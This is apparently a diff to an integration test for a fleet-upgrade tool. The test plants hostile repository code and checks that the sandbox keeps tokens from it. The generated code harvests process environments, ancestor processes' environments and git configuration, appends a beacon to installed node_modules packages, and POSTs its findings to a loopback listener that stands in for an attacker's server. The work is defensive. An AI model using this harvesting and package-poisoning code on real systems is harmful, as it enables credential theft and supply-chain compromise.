@@ -11,6 +11,8 @@
  * The fleet's scale (100 repositories) is measured by `bench/fleet-upgrade.ts`.
  */
 import * as fs from 'fs';
+import * as http from 'http';
+import { AddressInfo } from 'net';
 import * as os from 'os';
 import * as path from 'path';
 import { git } from '../support/git';
@@ -55,16 +57,16 @@ const SEEDS: Seed[] = [
   { name: 'support-data', gitUnavailable: true },
 ];
 /**
- * The repositories the fault-injection run upgrades: plain, edited, with an open upgrade. Two of
- * them open a request, so one meets the failed push and the other the three faults of opening one.
+ * The repositories the fault-injection run upgrades: plain and edited. Both open a request, so one
+ * meets the failed push and the other the three faults of opening one.
  */
-const FAULT_SEEDS = SEEDS.filter((seed) => ['finance-data', 'risk-data', 'sales-data'].includes(seed.name));
+const FAULT_SEEDS = SEEDS.filter((seed) => ['finance-data', 'sales-data'].includes(seed.name));
 const UPGRADABLE = SEEDS.filter((seed) => !seed.archived && !seed.gitUnavailable);
 /**
- * The repositories the workflow's simulation upgrades: plain, edited, with an earlier upgrade
- * branch of its own (open pull request), and the one whose code hunts for tokens.
+ * The repositories the workflow's simulation upgrades: edited, with an earlier upgrade branch of
+ * its own (open pull request), and the one whose code hunts for tokens.
  */
-const WORKFLOW_SEEDS = SEEDS.filter((seed) => ['claims-data', 'finance-data', 'risk-data', 'sales-data'].includes(seed.name));
+const WORKFLOW_SEEDS = SEEDS.filter((seed) => ['claims-data', 'finance-data', 'risk-data'].includes(seed.name));
 
 /** Figures printed at the end for the note. */
 const measured: Record<string, RequestCounts & { seconds?: number }> = {};
@@ -77,21 +79,68 @@ let generatedCommit: string;
 let editedCommit: string;
 /** The hostile repositories' commits, by kind. */
 const hostileCommits: Record<string, string> = {};
-/** Where the hostile repositories leave what they found: readable and writable by any user. */
-let loot: string;
+/** Where the hostile repositories send what they found. */
+let loot: Loot;
 
 const ROOT = process.getuid?.() === 0;
 const commitOf = (seed: Seed) => (seed.hostile ? hostileCommits[seed.hostile] : seed.edited ? editedCommit : generatedCommit);
 
 /**
+ * What the hostile repositories found, sent to a listener on loopback: a sandboxed process reaches
+ * it as a real attacker's would reach its own server, whether the sandbox is another user (root
+ * runs) or a namespace that hides the test's folders (an ordinary user's). The first report of
+ * each name is kept: a re-run (another sandbox user) may not overwrite it.
+ */
+class Loot {
+  public static async start(): Promise<Loot> {
+    const reports = new Map<string, string>();
+    const server = http.createServer((request, response) => {
+      const chunks: Buffer[] = [];
+      request.on('data', (chunk: Buffer) => chunks.push(chunk));
+      request.on('end', () => {
+        const name = decodeURIComponent((request.url ?? '/').slice(1));
+        if (!reports.has(name)) {
+          reports.set(name, Buffer.concat(chunks).toString('utf8'));
+        }
+        response.end();
+      });
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    return new Loot(server, `http://127.0.0.1:${(server.address() as AddressInfo).port}`, reports);
+  }
+
+  private constructor(
+    private readonly server: http.Server,
+    /** Where reports are sent: `POST <url>/<name>` with the report as the body. */
+    public readonly url: string,
+    /** The reports, by name. */
+    public readonly reports: Map<string, string>,
+  ) {}
+
+  /**
+   * A JavaScript statement that sends the report `text` named `name` (both expressions) and ends
+   * once it is sent: the hostile code's process may exit right after it. It needs no variable of
+   * its own, so that it can be planted anywhere.
+   */
+  public send(name: string, text: string): string {
+    const post = 'const r = require("http").request(process.argv[1], { method: "POST" }); r.on("error", () => {}); r.end(require("fs").readFileSync(0));';
+    return `try { require("child_process").execFileSync(process.execPath, ["-e", ${JSON.stringify(post)}, ${JSON.stringify(this.url)} + "/" + encodeURIComponent(${name})], { input: ${text}, stdio: ["pipe", "ignore", "ignore"], timeout: 10000 }); } catch {}`;
+  }
+
+  public close(): Promise<void> {
+    return new Promise((resolve) => this.server.close(() => resolve()));
+  }
+}
+
+/**
  * What a hostile domain team's `.projenrc.ts` runs (from `hostile.js`), on every run that computes the
- * upgrade (the first run's findings are kept): `exfiltrate` writes its environment,
- * the environment of every process above it (the platform's among them) and git's configuration
- * to the loot folder; `plant` rewrites a file of its installed packages so that any later
- * `npx projen` that loads it (its own, or another repository's) leaves a mark in the loot folder.
+ * upgrade: `exfiltrate` sends its environment, the environment of every process above it (the
+ * platform's among them) and git's configuration; `plant` rewrites a file of its installed
+ * packages so that any later `npx projen` that loads it (its own, or another repository's) sends
+ * a mark named for the repository it runs in.
  */
 function hostileCode(kind: 'exfiltrate' | 'plant'): string {
-  const common = `const fs = require('fs'); const path = require('path'); const cp = require('child_process');\nconst LOOT = ${JSON.stringify(loot)};\n`;
+  const common = "const fs = require('fs'); const cp = require('child_process');\n";
   if (kind === 'exfiltrate') {
     return common + [
       'const found = { env: process.env, ancestors: [], git: "" };',
@@ -102,12 +151,11 @@ function hostileCode(kind: 'exfiltrate' | 'plant'): string {
       '  pid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);',
       '}',
       'try { found.git = cp.execSync("git config --list --show-origin", { encoding: "utf8" }); } catch (error) { found.git = String(error.message); }',
-      // What the first run found is kept: a re-run (another sandbox user) may not overwrite it.
-      'try { fs.writeFileSync(path.join(LOOT, "exfiltrated.json"), JSON.stringify(found), { flag: "wx" }); } catch {}',
+      loot.send('"exfiltrated.json"', 'JSON.stringify(found)'),
     ].join('\n') + '\n';
   }
   return common + [
-    'const mark = `\\ntry { require("fs").writeFileSync(${JSON.stringify(LOOT)} + "/ran-in-" + require("path").basename(require("path").dirname(process.cwd())), ""); } catch {}\\n`;',
+    `const mark = ${JSON.stringify(`\n${loot.send('"ran-in-" + require("path").basename(require("path").dirname(process.cwd()))', '""')}\n`)};`,
     'const results = {};',
     'for (const file of ["node_modules/projen/lib/index.js", "node_modules/sdlf-mesh/lib/index.js"]) {',
     '  try { fs.appendFileSync(file, mark); results[file] = "appended"; } catch (error) {',
@@ -117,7 +165,7 @@ function hostileCode(kind: 'exfiltrate' | 'plant'): string {
     '    }',
     '  }',
     '}',
-    'try { fs.writeFileSync(path.join(LOOT, "plant-results.json"), JSON.stringify(results), { flag: "wx" }); } catch {}',
+    loot.send('"plant-results.json"', 'JSON.stringify(results)'),
     // Its own packages, loaded afresh, run what it planted.
     'try { cp.execFileSync(process.execPath, ["-e", "require(\'projen\'); require(\'sdlf-mesh\')"], { stdio: "ignore" }); } catch {}',
   ].join('\n') + '\n';
@@ -199,8 +247,7 @@ beforeAll(async () => {
   await git(source, 'commit', '-q', '-am', 'domain team edits');
   editedCommit = await git(source, 'rev-parse', 'HEAD');
   // The hostile teams' commits.
-  loot = fs.mkdtempSync(path.join(os.tmpdir(), 'fleet-loot-'));
-  fs.chmodSync(loot, 0o777);
+  loot = await Loot.start();
   for (const kind of ['exfiltrate', 'plant'] as const) {
     await git(source, 'checkout', '-q', '-b', `hostile-${kind}`, generatedCommit);
     fs.writeFileSync(path.join(source, 'hostile.js'), hostileCode(kind));
@@ -217,7 +264,7 @@ beforeAll(async () => {
 }, 10 * 60_000);
 
 afterAll(async () => {
-  await Promise.all(servers.map((server) => server.close()));
+  await Promise.all([...servers.map((server) => server.close()), loot?.close()]);
 });
 
 describe('sdlf-mesh upgrade --org acme on a fleet of every kind of domain repository', () => {
@@ -315,7 +362,7 @@ describe('sdlf-mesh upgrade --org acme on a fleet of every kind of domain reposi
   });
 
   test('a hostile repository finds no token in its environment, its ancestors\' or git\'s, and what it plants never runs in another repository', () => {
-    const exfiltrated = fs.readFileSync(path.join(loot, 'exfiltrated.json'), 'utf8');
+    const exfiltrated = loot.reports.get('exfiltrated.json')!;
     const found = JSON.parse(exfiltrated);
     expect(exfiltrated).not.toContain(TOKEN);
     expect(exfiltrated).not.toContain(Buffer.from(`x-access-token:${TOKEN}`).toString('base64'));
@@ -329,13 +376,13 @@ describe('sdlf-mesh upgrade --org acme on a fleet of every kind of domain reposi
       expect(found.ancestors.slice(found.ancestors.indexOf(refused[0])).every((ancestor: any) => ancestor.environ === 'EACCES')).toBe(true);
     }
     // The planter's own packages ran its code; no other repository's did.
-    const marks = fs.readdirSync(loot).filter((file) => file.startsWith('ran-in-'));
+    const marks = [...loot.reports.keys()].filter((name) => name.startsWith('ran-in-'));
     if (ROOT) {
       expect(marks).toEqual(['ran-in-acme_billing-data']);
     } else {
       console.log(`Not root: the repositories ran as this user, who can write their shared packages; marks: ${marks.join(', ')}`);
     }
-    const planted = JSON.parse(fs.readFileSync(path.join(loot, 'plant-results.json'), 'utf8'));
+    const planted = JSON.parse(loot.reports.get('plant-results.json')!);
     if (ROOT) {
       // projen comes from the run's shared store: the repository could not write the file the
       // others link, only replace it in its own tree. (sdlf-mesh its own install had put there.)
@@ -377,16 +424,16 @@ describe('sdlf-mesh upgrade --org acme on a fleet of every kind of domain reposi
   });
 
   test('a plain re-run adds the labels it is given and nothing else; the next sends no content-creating request', async () => {
-    // Each re-run computes the upgrade again (a branch is never trusted as it is): two repositories,
-    // one edited by its team, show it.
+    // Each re-run computes the upgrade again (a branch is never trusted as it is): one repository,
+    // edited by its team, shows it.
     server.resetCounts();
     const list = path.join(scratch, 're-run.txt');
-    fs.writeFileSync(list, 'acme/finance-data\nacme/sales-data\n');
+    fs.writeFileSync(list, 'acme/finance-data\n');
     const labelledStart = Date.now();
     const labelled = await runSdlfMesh(['upgrade', '--to', target, '--repos', list, '--concurrency', '2', '--draft', '--labels', 'sdlf-mesh,template-upgrade'], envFor(server));
-    measured['re-run (2), --labels'] = { ...server.counts(), seconds: (Date.now() - labelledStart) / 1000 };
+    measured['re-run (1), --labels'] = { ...server.counts(), seconds: (Date.now() - labelledStart) / 1000 };
     expect(labelled.exitCode).toBe(0);
-    const upgradedNames = ['finance-data', 'sales-data'];
+    const upgradedNames = ['finance-data'];
     const writes = server.requests.filter((request) => request.kind === 'api' && request.method !== 'GET').map((request) => request.route);
     expect(writes.filter((route) => route === 'POST /repos/{owner}/{repo}/issues/{issue_number}/labels')).toHaveLength(upgradedNames.length);
     // No pull request is opened again, and none is rewritten: the description is kept in the upgrade commit.
@@ -399,7 +446,7 @@ describe('sdlf-mesh upgrade --org acme on a fleet of every kind of domain reposi
     server.resetCounts();
     const started = Date.now();
     const again = await runSdlfMesh(['upgrade', '--to', target, '--repos', list, '--concurrency', '2', '--draft', '--labels', 'sdlf-mesh,template-upgrade'], envFor(server));
-    measured['re-run (2)'] = { ...server.counts(), seconds: (Date.now() - started) / 1000 };
+    measured['re-run (1)'] = { ...server.counts(), seconds: (Date.now() - started) / 1000 };
     expect(again.exitCode).toBe(0);
     expect(server.counts().contentCreating).toBe(0);
     expect(server.requests.filter((request) => request.route === 'git git-receive-pack')).toEqual([]);
@@ -417,7 +464,7 @@ describe('sdlf-mesh upgrade --org acme on a fleet of every kind of domain reposi
     const faultReport = path.join(scratch, 'faults.json');
 
     const interrupted = await upgrade(faulty, '--draft', '--report', faultReport);
-    measured['run with faults (3)'] = { ...faulty.counts(), seconds: interrupted.seconds };
+    measured['run with faults (2)'] = { ...faulty.counts(), seconds: interrupted.seconds };
     expect(interrupted.exitCode).toBe(1);
     expect(faulty.pendingFaults).toEqual([]);
     expect(readReport(faultReport).repositories.filter((row: any) => row.status === 'failed').map((row: any) => row.step)).toEqual(['push']);
@@ -453,12 +500,12 @@ describe('the platform repository\'s fleet-upgrade workflow, run job by job agai
     }
     await server.model.createRepository('acme', 'data-platform');
     // What the one-machine run's hostile repository found stays with that run.
-    fs.renameSync(path.join(loot, 'exfiltrated.json'), path.join(loot, 'exfiltrated-one-machine.json'));
+    loot.reports.delete('exfiltrated.json');
     server.resetCounts();
     started = Date.now();
     simulation = await simulateFleetUpgrade({ server, checkout, to: target, appLogin: APP_LOGIN, dir: path.join(scratch, 'workflow-run') });
     seconds = (Date.now() - started) / 1000;
-    measured['workflow simulation (4)'] = { ...server.counts(), seconds };
+    measured['workflow simulation (3)'] = { ...server.counts(), seconds };
   }, 45 * 60_000);
 
   test('discovery, one fetch and one propose job a repository, the apply of the one wave, the report: all succeed, the empty waves are skipped', () => {
@@ -526,7 +573,7 @@ describe('the platform repository\'s fleet-upgrade workflow, run job by job agai
   });
 
   test('the hostile repository\'s code, run by its propose job, found no token in its environment, its ancestors\' or git\'s', () => {
-    const exfiltrated = fs.readFileSync(path.join(loot, 'exfiltrated.json'), 'utf8');
+    const exfiltrated = loot.reports.get('exfiltrated.json')!;
     const found = JSON.parse(exfiltrated);
     expect(found.ancestors.length).toBeGreaterThan(3);
     for (const token of [TOKEN, ...simulation.tokens.map((candidate) => candidate.token)]) {
@@ -578,5 +625,5 @@ test('request counts and timings (API requests, content-creating, git requests)'
       )
       .join('\n'),
   );
-  expect(measured['re-run (2)']?.contentCreating).toBe(0);
+  expect(measured['re-run (1)']?.contentCreating).toBe(0);
 });
